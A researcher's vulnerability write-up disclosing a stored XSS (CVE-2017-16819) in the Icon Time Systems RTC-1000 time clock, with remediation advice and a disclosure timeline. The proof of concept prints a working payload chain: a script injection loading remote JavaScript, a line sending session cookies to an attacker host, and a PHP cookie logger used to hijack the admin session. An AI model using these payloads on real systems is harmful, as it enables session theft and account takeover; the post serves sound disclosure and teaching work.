This post details my findings while conducting vulnerability research on an Icon Time Systems RTC-1000 Universal Time Clock (firmware v2.5.7458 and below) including how I found the vulnerability, how I exploited it, and a few remediation and mitigation techniques. This vulnerability has been assigned CVE-2017-16819 by MITRE.


The Device

The Icon Time Systems RTC-1000 Universal Time Clock is a highly popular employee time clock with installations around the globe including medical, retail, restaurants, and manufacturing facilities. Sold in many places including office retailers like Staples and Quill, this networked time clock has a wide variety of features including web portal user and administration access, the use of proximity badges, and interfacing to many external payroll services and accounting packages. More about the device can be found here.

The Vulnerability

The Icon Time Systems RTC-1000 (firmware v2.5.7458 and below) Universal Time Clock device is susceptible to a Stored Cross Site Scripting (XSS) vulnerability that facilitates sessionhijacking, including the ability to takeover the admin user, resulting in elevated privileges. As a non-admin user with limited rights, injecting a session hijacking XSS payload into the ‘First Name’ field of an employee record on the employee.html webpage allowed me to gain admin access to the time clock following admin login via session hijacking. This allows the attacker to then modify employee hours, have access to all personnel information, indeed full control over the time clock's functionality. After injection, wherever this employee's first name appears in subsequent webpages, it will triggerthe XSS attack. For those new to XSS attacks and vulnerabilities, more information and reading can be found in the Resources section below. Caveat: To exploit this vulnerability, the attacker does need valid credentials to access the device and those credentials must have permissions to change employee names.

Proof of Concept

Using nmap, a quick scan of the device indicated that TCP ports 80, 443, and 514 were open as well as revealing a Mbedthis-Appweb webserver running on TCP port 80 that issued cookies without the HttpOnly flag set:


Using Portswigger’s Burp Suite Professional, one area of concern that was identified immediately was the use of SessionIDs without the use of the cookie’s HttpOnly flag being set, confirming the earlier nmap scan results. This could allow for, and did as we will see, the possibility of XSS injection via JavaScript.


Logging in using previously obtained credentials and attempting to access higher level areas of the web application such as the Settings->Preferences fails to do so:


This hypothetical user, as part of their job function, does however have access to modify employee records, adding hours to employee time cards, etc. Finding an inactive employee for test purposes, Employee ID 889, I insert a standard very vanilla test XSS payload into the 'First Name' textbox of this employee record and set the employee to 'Active' so it shows up in the default employee list screen:Testing for XSS injection in the ‘First Name’ field using the following payload:


After submitting the changes, the web application returned me to the default employeelist.html webpage displaying active employees and presented me with an alert box showing the XSS attack had indeed been successful revealing session cookies:Upon further inspection of the ‘First Name’ field, I found that it is limited to (40) characters, making a long-stringed injection payload difficult. The solution, however, is to perform an offload JavaScript injection whereby the attacker calls a shortened URL JavaScript location to a webserver that the attacker controls, that then becomes part of html in the returned webpage, which in turn includes a much larger payload calling a .PHP webpage that records entire session cookies for the attacker to later use. This technique very effectively defeated the (40) character limit imposed on the ‘First Name’ field of the employee.html webpage:

Final XSS Injection payload inserted into the ‘First Name’ textbox:
<script src=//></script>

g.js JavaScript hosted on attacker controlled website that is called via the XSS Injection payload:
var i=new Image(); i.src=""+document.cookie;

c.php webpage hosted on attacker controlled website that collects session cookies and stores them in a file on the attacker controlled site:
<?php $cookie = $_SERVER['QUERY_STRING']; $logfile=fopen("cookies.txt", "a+"); fputs($logfile, "COOKIE REC: $cookie" . PHP_EOL); fclose($logfile); ?>


With the payload injected into the ‘First Name’ textbox, the screen isreturned to the default employeelist.html webpage and as we see, there is no hint that in the background cookie collection is happening and being stored in my self-served cookie collector:


Now all an attacker has to do is wait for the admin user or other elevated privilege users to login and view the employee list, or anywhere else within the web application that displays employee first names, to assume their session:


Using this session cookie, the attacker then edit's their existing user's session cookie to become that of another user, in this case the admin user, the highest privileged user this web application offers:The attack is successful and the attacker now has become the admin user via session hijacking as a result of the XSS injection vulnerability and is able to access Settings->Preferences webpage:


It is important to note that while my primary focus here was to hijack the admin user’s session and effectively take that session over, this XSS injection vulnerability could just as well have been used to re-direct a victim to a login page mimicking corporate email portal, inject information into backend and downstream systems that processes payroll data, etc. It is up to each organization using this product to determine the overall risk and impact this vulnerability may cause directly. The possibilities for abuse are only limited by the attacker’s imagination.

Suggested Mitigation and RemediationThe following is recommended to mitigate andremediate this vulnerability according to Open Web Application Security Project (OWASP) recommendations:

  • Escape all character input of the textbox: First Name, input ID: nameFirst on the employee.htmlwebpage, preferably using a mature and tested library or method.
  • Perform input validation and sanitization on the textbox: First Name, input ID: nameFirst (and all areas of input within the web application where applicable) on the employee.html webpage, again using a mature and tested library or method.
  • Enable HttpOnly cookie flags in all response headers. Although most modern browsers support this, not all do as it isn't a hard standard. Those that don't will ignore it if found. Lastly, HttpOnly cookie flags can be defeated depending on various factors by using XMLHTTPRequest. Joe Rozner did a good job talking about this in his DEFCON 25 Talk, Wiping out CSRF (slides for the video are here):
  • On pages that displays user input data, perform output encoding.
  • Implement a Web Application Firewall (WAF) within the HTTP server service to protect against this vulnerability as well as many others.


CVE-2017-16819 is the first vulnerability that I have discovered "in the wild" with devices like this. Not an overly exciting XSS but I did find the (40) character limit interesting to workaround. Hopefully you found this post useful in not only illustrating how XSS vulnerabilities can be located and utilized, but also show you that thinking outside of the box is absolutely critical for penetration testing. Most people would pass by this time clock on the wall and never give it any thought as to what security implications it mighthave on their infrastructure. A pentester, however, sees anything that takes input and stores orprocesses data as a possible vector for attack.


Cross-Site Scripting (XSS)
Common Weakness Enumeration (CWE) XSS Classification and Information
OWASP XSS Classification and Information
OWASP XSS Prevention Cheat Sheet
OWASP Enabling HttpOnly SessionCookies
Your API-Centric Web App Is Probably Not Safe Against XSS and CSRF

Disclosure Timeline

09/08/2017 -Vulnerability discovered.09/15/2017 - Vendor informed.
09/19/2017 - Vendor informed.
09/19/2017 - Vendor acknowledged and indicated patch developmentunderway.
10/24/2017 - Emailed vendor for update. No response.11/17/2017 - Public Disclosure